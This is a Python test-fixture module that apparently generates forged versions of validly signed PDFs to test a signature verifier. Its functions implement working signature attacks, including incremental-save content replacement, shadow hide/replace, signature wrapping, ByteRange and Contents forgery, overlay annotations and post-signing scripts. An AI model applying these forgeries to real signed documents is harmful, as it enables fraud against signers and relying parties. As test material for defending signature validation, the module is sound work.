"""Attacks on signed PDFs, made from a document that was really signed (T23; pdf-insecurity.org).

Every function takes signed octets and answers the octets an attacker would hand on. Object numbers are those
of `tests.unit.seal.plain_pdf`: 1 catalog, 2 page tree, 3 page, 4 content, 5 font.
"""

import re

from tests.unit.seal.plain_pdf import append_update, build_pdf, page_objects, root_of, stream

FORGED = stream(b"BT /F1 24 Tf 72 720 Td (Pay 999 yuan) Tj ET")
_RANGES = re.compile(rb"/ByteRange ?\[([\d ]+)\]")


def document_with_a_covered_line() -> bytes:
    """A page whose second line lies under a white sheet (object 6), ready for somebody unsuspecting to
    sign."""
    objects = page_objects()
    objects[3] = objects[3].replace(b"/Resources <<", b"/Resources <</XObject <</Sheet 6 0 R>> ")
    objects[4] = stream(
        b"BT /F1 24 Tf 72 720 Td (Pay 100 yuan) Tj 0 -120 Td (and 900 more) Tj ET"
        b" q 1 0 0 1 60 590 cm /Sheet Do Q"
    )
    objects[6] = stream(b"1 g 0 0 300 40 re f", b" /Type /XObject /Subtype /Form /BBox [0 0 300 40]")
    return build_pdf(objects)


def ranges_of(pdf: bytes) -> list[int]:
    """The four numbers of the last ByteRange."""
    return [int(number) for number in _RANGES.findall(pdf)[-1].split()]


def object_text(pdf: bytes, number: int) -> bytes:
    """What stands between `n 0 obj` and `endobj`, as written last."""
    found = re.findall(rb"(?:^|\n)%d 0 obj\n(.*?)\nendobj" % number, pdf, re.DOTALL)
    assert found
    return bytes(found[-1])


def content_replaced(pdf: bytes) -> bytes:
    """Incremental saving attack (ISA): a proper update that replaces the page's content."""
    return append_update(pdf, {4: FORGED})


def content_replaced_behind_an_empty_table(pdf: bytes) -> bytes:
    """ISA whose table names nothing: readers that rebuild the table show the new content (seals.md §0)."""
    return append_update(pdf, {4: FORGED}, named=False)


def content_replaced_without_a_table(pdf: bytes) -> bytes:
    """ISA without table and trailer: a lone object after the end."""
    return pdf + b"4 0 obj\n" + FORGED + b"\nendobj\n"


def content_replaced_by_another_catalog(pdf: bytes) -> bytes:
    """Shadow "hide and replace": the update's trailer points at a second document."""
    objects = {
        601: b"<</Type /Catalog /Pages 602 0 R /AcroForm %b>>" % _form(pdf),
        602: b"<</Type /Pages /Kids [603 0 R] /Count 1>>",
        603: b"<</Type /Page /Parent 602 0 R /MediaBox [0 0 595 842] /Contents 604 0 R"
        b" /Resources <</Font <</F1 5 0 R>>>>>>",
        604: FORGED,
    }
    previous = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    return append_update(pdf, objects, trailer=b"/Root 601 0 R /Size 700 /Prev %d" % previous)


def _form(pdf: bytes) -> bytes:
    catalog = object_text(pdf, 1)
    found = re.search(rb"/AcroForm (\d+ 0 R|<<.*?>>)", catalog, re.DOTALL)
    assert found
    return bytes(found.group(1))


def sheet_made_empty(pdf: bytes) -> bytes:
    """Shadow "hide": the sheet over the second line is exchanged for one that paints nothing."""
    return append_update(pdf, {6: stream(b"", b" /Type /XObject /Subtype /Form /BBox [0 0 300 40]")})


def sheet_freed(pdf: bytes) -> bytes:
    """Shadow "hide": the sheet is declared free. pdfium draws it all the same, other readers do not."""
    previous = int(pdf[pdf.rindex(b"startxref") + 9 :].split()[0])
    table = b"xref\n6 1\n0000000000 00001 f \n"
    table += b"trailer\n<</Root %b /Size 700 /Prev %d>>\n" % (root_of(pdf), previous)
    return pdf + table + b"startxref\n%d\n%%%%EOF\n" % len(pdf)


def font_replaced(pdf: bytes) -> bytes:
    """Shadow "replace": another font under the same name, so that the same codes show other signs."""
    return append_update(pdf, {5: b"<</Type /Font /Subtype /Type1 /BaseFont /Symbol>>"})


def signature_wrapped(pdf: bytes) -> bytes:
    """Signature wrapping (SWA): the second signed piece is moved down, forged objects stand in the gap."""
    _, gap_start, gap_end, length = ranges_of(pdf)
    value, rest = pdf[gap_start:gap_end], pdf[gap_end : gap_end + length]
    number = int(re.findall(rb"(\d+) 0 obj", pdf[:gap_start])[-1])
    wedge = b">>\nendobj\n4 0 obj\n" + FORGED + b"\nendobj\n"
    head = b"%d 0 obj\n<</Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents %b" % (
        number,
        value,
    )
    closing = b"\n>>\nendobj\n900 0 obj\n<</Contents <00>"
    ranges = b" /ByteRange [0 %d %010d %d]" % (gap_start, 0, length)
    moved = gap_end + len(wedge) + len(head) + len(ranges) + len(closing)
    ranges = b" /ByteRange [0 %d %010d %d]" % (gap_start, moved, length)
    return pdf[:gap_end] + wedge + head + ranges + closing + rest


def ranges_replaced(pdf: bytes, ranges: bytes) -> bytes:
    """Universal signature forgery (USF): the ByteRange is made meaningless, padded to its old length."""
    found = _RANGES.search(pdf)
    assert found
    return pdf[: found.start()] + (b"/ByteRange " + ranges).ljust(len(found.group())) + pdf[found.end() :]


def contents_replaced(pdf: bytes, value: bytes) -> bytes:
    """USF: the signature value is made meaningless, padded to its old length."""
    _, gap_start, gap_end, _ = ranges_of(pdf)
    return pdf[:gap_start] + value.ljust(gap_end - gap_start) + pdf[gap_end:]


def annotated(pdf: bytes, subtype: bytes, extra: bytes = b"") -> bytes:
    """Evil annotation attack (EAA): an annotation of this subtype over the text, with its own picture."""
    page = object_text(pdf, 3)
    picture = stream(
        b"1 g 0 0 300 40 re f BT /F1 24 Tf 0 g 2 8 Td (Pay 999 yuan) Tj ET",
        b" /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Resources <</Font <</F1 5 0 R>>>>",
    )
    annotation = b"<</Type /Annot /Subtype /%b /Rect [70 710 370 750] /F 4 /AP <</N 702 0 R>>%b>>" % (
        subtype,
        extra,
    )
    return append_update(pdf, {3: _with_annotation(page, 701), 701: annotation, 702: picture})


def highlighted(pdf: bytes) -> bytes:
    """No attack: a highlight without letters, which P=3 allows."""
    page = object_text(pdf, 3)
    picture = stream(
        b"1 1 0 rg 0 0 40 8 re f", b" /Type /XObject /Subtype /Form /BBox [0 0 40 8] /Resources <<>>"
    )
    annotation = b"<</Type /Annot /Subtype /Highlight /Rect [70 600 110 608] /F 4 /AP <</N 702 0 R>>>>"
    return append_update(pdf, {3: _with_annotation(page, 701), 701: annotation, 702: picture})


def _with_annotation(page: bytes, number: int) -> bytes:
    if b"/Annots" in page:
        return re.sub(rb"/Annots ?\[", b"/Annots [%d 0 R " % number, page, count=1)
    return page[: page.rindex(b">>")] + b"/Annots [%d 0 R]>>" % number


def covered_by_a_signature_field(pdf: bytes, box: bytes = b"70 710 370 750") -> bytes:
    """Sneaky signature attack (SSA): a new, empty signature field whose picture covers the text."""
    page, catalog = object_text(pdf, 3), object_text(pdf, 1)
    picture = stream(
        b"1 g 0 0 300 40 re f BT /F1 24 Tf 0 g 2 8 Td (Pay 999 yuan) Tj ET",
        b" /Type /XObject /Subtype /Form /BBox [0 0 300 40] /Resources <</Font <</F1 5 0 R>>>>",
    )
    field = (
        b"<</Type /Annot /Subtype /Widget /FT /Sig /T (Approval) /Rect [%b]" % box
        + b" /F 4 /AP <</N 702 0 R>> /P 3 0 R>>"
    )
    catalog = re.sub(rb"/Fields ?\[", b"/Fields [701 0 R ", catalog, count=1)
    return append_update(pdf, {1: catalog, 3: _with_annotation(page, 701), 701: field, 702: picture})


def script_added(pdf: bytes) -> bytes:
    """An open action with a script, added after signing."""
    catalog = object_text(pdf, 1)
    action = b"/OpenAction <</S /JavaScript /JS (app.alert\\(1\\))>>>>"
    return append_update(pdf, {1: catalog[: catalog.rindex(b">>")] + action})


def attachment_added(pdf: bytes) -> bytes:
    """An attachment put in after signing, to pass for one that was signed."""
    catalog = object_text(pdf, 1)
    names = b"/Names <</EmbeddedFiles <</Names [(license.json) 701 0 R]>>>>>>"
    objects = {
        1: catalog[: catalog.rindex(b">>")] + names,
        701: b"<</Type /Filespec /F (license.json) /UF (license.json) /EF <</F 702 0 R>>>>",
        702: stream(b"{}", b" /Type /EmbeddedFile"),
    }
    return append_update(pdf, objects)
